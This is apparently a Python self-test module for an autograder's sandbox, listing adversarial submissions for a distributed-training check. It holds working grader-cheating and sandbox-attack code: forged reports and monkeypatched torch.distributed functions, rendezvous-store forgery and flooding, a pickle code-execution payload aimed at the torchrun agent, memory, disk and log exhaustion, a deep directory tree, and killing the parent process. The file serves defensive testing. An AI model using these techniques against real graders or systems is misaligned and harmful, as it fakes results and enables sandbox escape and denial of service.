"""Attacks from check 1.4's torchrun launch (a torchrun agent would run without seccomp): reports forged
without a process group, the agent's rendezvous store, and what the launch's processes can leave behind, use
up or kill."""

from __future__ import annotations

from autograder.selftest.attacks.shared import CHANNEL, EVERY_PART, absent, all_of, output_of, tests_fail, tests_pass
from autograder.selftest.kinds import AT_END, PROCESS_GROUP, Case, Function

# Ports listening in this network namespace (the jail's own /proc/net view).
LISTENING = r'''

def _listening_ports():
    ports = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)
'''


FAKE_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    """No process group at all: hand check 1.4's probe the report it wants, guessing the all-reduced sum
    from this rank's own number, and leave."""
    import sys
    rank, world = int(os.environ["RANK"]), int(os.environ["WORLD_SIZE"])
    mine = float(os.environ.get("MINDDP_PROBE_VALUE", rank + 1))
    frame = sys._getframe()
    while frame is not None and "report" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        frame.f_locals["report"]({"rank": rank, "world_size": world, "local_rank": rank, "node_rank": 0,
                                  "sum": mine * world, "dist_rank": rank})
    os._exit(0)
'''

# No process group at all, and the right sum anyway: the ranks trade their numbers over an abstract Unix
# socket, and torch.distributed's functions are replaced through the module's namespace, so the probe's
# all_reduce, get_rank and get_backend answer what a group would.
NO_GROUP_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import socket
    import time
    env = read_torchrun_env()
    mine = float(os.environ.get("MINDDP_PROBE_VALUE", env.rank + 1))
    name = "\0minddp-sum-" + os.environ["MASTER_PORT"]
    if env.rank == 0:
        server = socket.socket(socket.AF_UNIX)
        server.bind(name)
        server.listen()
        peer, _ = server.accept()
        theirs = float(peer.recv(64).decode())
        peer.sendall(repr(mine).encode())
    else:
        for _ in range(200):
            try:
                peer = socket.socket(socket.AF_UNIX)
                peer.connect(name)
                break
            except OSError:
                time.sleep(0.05)
        peer.sendall(repr(mine).encode())
        theirs = float(peer.recv(64).decode())
    total = mine + theirs
    namespace = vars(dist)
    namespace["all_reduce"] = lambda tensor, *args, **kwargs: tensor.fill_(total)
    namespace["get_rank"] = lambda *args, **kwargs: env.rank
    namespace["get_backend"] = lambda *args, **kwargs: backend
    namespace["is_initialized"] = lambda: False
    return env
'''

# No process group either, but the evidence check 1.4 asks for: the ranks write gloo's key into the rendezvous
# store themselves, as a group would, trade their numbers through it, and answer the probe through an alias of
# torch.distributed. Nothing outside the ranks can tell (SECURITY.md: the residual); the integrity report shows it.
STORE_FORGERY_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    env = read_torchrun_env()
    mine = float(os.environ.get("MINDDP_PROBE_VALUE", env.rank + 1))
    store = dist.TCPStore(env.master_addr, env.master_port, is_master=False, timeout=timeout)
    store.set(f"default_pg/0//cpu//{env.rank}", "forged")
    store.set(f"forged/{env.rank}", repr(mine))
    total = sum(float(store.get(f"forged/{r}").decode()) for r in range(env.world_size))
    d = dist
    d.all_reduce = lambda tensor, *args, **kwargs: tensor.fill_(total)
    d.get_rank = lambda *args, **kwargs: env.rank
    d.get_backend = lambda *args, **kwargs: backend
    d.is_initialized = lambda: False
    return env
'''

# Rank 0 pushes 600 MB into the rendezvous store, whose host shares Gradescope's 768 MB with the grader, then
# joins the group as it should; it says STORE-UNBOUNDED if the store took it all.
# What the solutions' init_process_group does before joining (handout §1, check 1.4's nccl input), for the cases
# below that replace it with an attack: the attack is the case's, the rest of the function stays the solutions'.
CHOOSE_BACKEND = r'''

def _backend(env, backend):
    if backend is None:
        backend = "nccl" if torch.cuda.is_available() else "gloo"
    if backend == "nccl":
        torch.cuda.set_device(env.local_rank)
    return backend
'''

STORE_FLOOD_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    env = read_torchrun_env()
    if env.rank == 0:
        store = dist.TCPStore(env.master_addr, env.master_port, is_master=False, timeout=timedelta(seconds=10))
        chunk = b"x" * (4 << 20)  # (the store refuses a value over 8 MB)
        try:
            for i in range(150):
                store.set(f"flood/{i}", chunk)
        except Exception:
            pass
        else:
            raise RuntimeError("STORE-UNBOUNDED: the rendezvous store took 600 MB")
    dist.init_process_group(_backend(env, backend), init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    return env
'''

# The agent unpickles the rendezvous state it keeps in its TCPStore every second; a rank can set it.
AGENT_PAYLOAD = r'''
import ctypes, os
report = {"agent_pid": os.getpid(), "seccomp": open("/proc/self/status").read().split("Seccomp:")[1].split()[0]}
try:
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            ctypes.CDLL(None).prctl(15, b"minddp-daemon", 0, 0, 0)
            os.execv("/bin/sleep", ["sleep", "40"])
        finally:
            os._exit(0)
    report["forked_and_exec"] = child
except OSError as error:
    report["fork"] = str(error)
with open("/tmp/minddp-agent-exec", "w") as f:
    f.write(repr(report))
'''

AGENT_EXEC = LISTENING + f"\n\nAGENT_PAYLOAD = {AGENT_PAYLOAD!r}\n" + r'''


def _own_the_agent():
    """Set a pickle as the agent's rendezvous state; report if the agent ran it."""
    import base64
    import pickle
    import threading
    import time
    key = "torch.rendezvous." + os.environ.get("TORCHELASTIC_RUN_ID", "")
    found = []

    def probe(port):
        try:
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=0.5))
            if store.check([key]):
                found.append((store, base64.b64decode(store.get(key))))
        except Exception:
            pass

    # Every port at once, for 2 s in all: an agent's store answers at once on loopback, while a listener that is
    # no store (another rank's gloo listener, under load) never answers a store's handshake, whatever its timeout.
    # The launch's deadline is the grader's, so the scan must stay short however many ports a loaded machine shows.
    def others():
        return [port for port in _listening_ports() if str(port) != os.environ.get("MASTER_PORT")]

    waited = time.monotonic() + 3.0  # for rank 1's gloo listener (whatever the load): the scan must always meet one
    while not others() and time.monotonic() < waited:
        time.sleep(0.05)
    probes = [threading.Thread(target=probe, args=(port,), daemon=True) for port in others()]
    for thread in probes:
        thread.start()
    give_up = time.monotonic() + 2.0
    for thread in probes:
        thread.join(max(0.0, give_up - time.monotonic()))
    if not found:
        return None
    store, state = found[0]

    class Payload:
        def __reduce__(self):
            return (eval, ("exec(%r) or __import__('pickle').loads(%r)" % (AGENT_PAYLOAD, state),))
    store.set(key, base64.b64encode(pickle.dumps(Payload())).decode())
    for _ in range(60):
        if os.path.exists("/tmp/minddp-agent-exec"):
            with open("/tmp/minddp-agent-exec") as f:
                return f.read()
        time.sleep(0.1)
    return None


class _Evidence(DistEnv):
    """A DistEnv whose node_rank carries the evidence into check 1.4's report (and so into its message)."""
    evidence = ""

    @property
    def node_rank(self):
        return "AGENT-EXEC: the torchrun agent (no seccomp) ran this rank's pickle: " + self.evidence
'''

AGENT_EXEC_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    evidence = _own_the_agent() if os.environ.get("RANK") == "0" else None
    if evidence:
        try:  # the agent was exec'd, so it is dumpable again: its memory is writable by this rank too
            os.close(os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR))
            evidence += "; /proc/<agent>/mem opened read-write"
        except OSError as error:
            evidence += f"; /proc/<agent>/mem: {error.strerror}"
    env = read_torchrun_env()
    dist.init_process_group(_backend(env, backend), init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    if evidence:
        _Evidence.evidence = evidence
        return _Evidence(env.rank, env.world_size, env.local_rank, env.local_world_size, env.master_addr,
                         env.master_port)
    return env
'''

DEEP_TREE_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import tempfile
    env = read_torchrun_env()
    if env.rank == 0:  # a deep tree where the rank may write (its private /tmp), left for whoever cleans up
        here = os.getcwd()
        os.chdir(tempfile.gettempdir())
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)
    dist.init_process_group(_backend(env, backend), init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    return env
'''

RESOURCES_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import tempfile
    env = read_torchrun_env()
    found = []
    if env.rank == 0:
        try:  # memory: nothing watches the launch's processes
            hog = torch.ones(1536 * 2**20 // 4)
            found.append(f"held {hog.numel() * 4 // 2**20} MB")
            del hog
        except (MemoryError, RuntimeError) as error:
            found.append(f"memory refused: {error}")
        written = 0
        try:  # disk: wherever this rank may write
            for i in range(12):
                with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as f:
                    for _ in range(31):
                        f.write(b"\0" * 2**20)
                        written += 1
        except OSError as error:
            found.append(f"disk refused after {written} MB: {error}")
        for i in range(12):
            try:
                os.unlink(os.path.join(tempfile.gettempdir(), f"fill{i}"))
            except OSError:
                pass
        if written >= 300 or any(f.startswith("held") for f in found):
            raise RuntimeError(f"LAUNCH-UNBOUNDED: {found}; wrote {written} MB into {tempfile.gettempdir()}")
    dist.init_process_group(_backend(env, backend), init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    return env
'''

ORPHANS_INIT = r'''
def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    import signal
    import sys
    import time
    env = read_torchrun_env()
    dist.init_process_group(_backend(env, backend), init_method="env://", rank=env.rank, world_size=env.world_size,
                            timeout=timeout)
    if env.rank == 1:
        time.sleep(0.5)
        try:
            os.kill(os.getppid(), signal.SIGKILL)  # the process that started this rank
        except OSError:
            pass
        time.sleep(600)
    for _ in range(40):  # 40 MB of log
        sys.stderr.write("x" * 2**20)
    time.sleep(600)  # an orphan
    return env
'''

LAUNCH_REPORT_TRICKS_INIT = CHANNEL + r'''


def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
    """What the trusted side reads of check 1.4: rank 0 reports twice (a list, then 30 MB of brackets),
    rank 1 half a message; then both leave."""
    env = read_torchrun_env()
    if env.rank == 0:
        _send_raw(b"[1, 2, 3]")
        _send_raw(b"[" * (30 * 2**20))
    else:
        _channel().sendall((4096).to_bytes(8, "big") + b'{"ok": true, "result": {"rank": 1')
    os._exit(0)
'''


ATTACKS: list = [
    Case("launch-fake-reports", "stubs whose init_process_group hands check 1.4's probe the report it expects "
         "(public in checks/part1.py), guessing the all-reduced sum, and exits: no process group is ever made "
         "(each rank's number is drawn at grading time)", start="stubs",
         edits={PROCESS_GROUP: [Function("init_process_group", FAKE_INIT)]},
         zero=EVERY_PART, full=(), score=(0, 0)),
    Case("launch-no-process-group", "init_process_group makes no process group: the two ranks trade their "
         "numbers over an abstract Unix socket and replace torch.distributed's all_reduce, get_rank and get_backend "
         "through vars(dist): the reports are right, but the rendezvous store (hosted outside the ranks, as "
         "torchrun's agent hosts it) saw no rank join a group",
         edits={PROCESS_GROUP: [Function("init_process_group", NO_GROUP_INIT)]}, full=("2", "3", "4", "5", "6", "A", "B"),
         says={"1": "joined a process group through the rendezvous store"},
         check=all_of(tests_fail("1.4"), tests_pass("1.1", "1.2", "1.3"),
                      output_of("0.1", "vars (reads or writes a namespace", "the report must show vars()"),
                      output_of("0.1", "AF_UNIX", "the report must show the Unix socket"))),
    Case("launch-store-forgery", "init_process_group makes no process group, but the ranks write gloo's "
         "default_pg keys into the rendezvous store themselves and trade their numbers through it, and replace "
         "torch.distributed's functions through an alias: check 1.4 cannot tell (the residual SECURITY.md states: "
         "2 points), the integrity report shows each step",
         edits={PROCESS_GROUP: [Function("init_process_group", STORE_FORGERY_INIT)]}, checks=("1.4",), full=(),
         check=all_of(*(output_of("0.1", words, "the integrity report must show the forgery") for words in (
             "TCPStore (talks to a rendezvous store", "string mentioning 'default_pg'", "assigns d.all_reduce",
             "never calls torch.distributed's init_process_group")))),
    Case("launch-store-flood", "rank 0 of check 1.4 pushes 600 MB into the rendezvous store before joining: the "
         "store host's memory is capped, so it refuses them (and still hosts the ranks' process group: 1.4 passes), "
         "and the grading never runs short", edits={PROCESS_GROUP: [Function("init_process_group", STORE_FLOOD_INIT), (AT_END, CHOOSE_BACKEND)]},
         checks=("1.4",), check=absent("STORE-UNBOUNDED", why="the store host's memory is unbounded")),
    Case("launch-agent-exec", "rank 0 of check 1.4 looks in /proc/net/tcp for a torchrun agent's rendezvous "
         "store to set a pickle as its state (an agent would unpickle it without seccomp); the grader's ranks "
         "replay torchrun's environment, so there must be no agent to find",
         edits={PROCESS_GROUP: [(AT_END, AGENT_EXEC), Function("init_process_group", AGENT_EXEC_INIT), (AT_END, CHOOSE_BACKEND)]},
         check=absent("AGENT-EXEC", why="student code ran in the torchrun agent, which has no seccomp")),
    Case("launch-deep-tree", "rank 0 of check 1.4 makes a 3000-deep tree of folders in its /tmp: nothing "
         "the grader cleans up may recurse into it (the private tmpfs goes with the jail)",
         edits={PROCESS_GROUP: [Function("init_process_group", DEEP_TREE_INIT), (AT_END, CHOOSE_BACKEND)]}),
    Case("launch-resources", "rank 0 of check 1.4 holds 1.5 GB and writes 372 MB into its /tmp; it reports "
         "LAUNCH-UNBOUNDED if nothing stopped it",
         edits={PROCESS_GROUP: [Function("init_process_group", RESOURCES_INIT), (AT_END, CHOOSE_BACKEND)]},
         full=("2", "3", "4", "5", "6", "A", "B"),
         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"),
                      absent("LAUNCH-UNBOUNDED", why="the launch's memory and disk are unbounded"))),
    Case("launch-orphans", "in check 1.4 rank 1 tries to kill the process that started it (the grader's, "
         "root), rank 0 prints 40 MB and sleeps 600 s: 1.4 fails at its deadline and nothing is left behind",
         edits={PROCESS_GROUP: [Function("init_process_group", ORPHANS_INIT), (AT_END, CHOOSE_BACKEND)]},
         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),
    Case("launch-report-tricks", "check 1.4's rank 0 sends two reports (a list, then 30 MB of brackets), "
         "rank 1 half a report, then both exit",
         edits={PROCESS_GROUP: [Function("init_process_group", LAUNCH_REPORT_TRICKS_INIT)]},
         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),

]
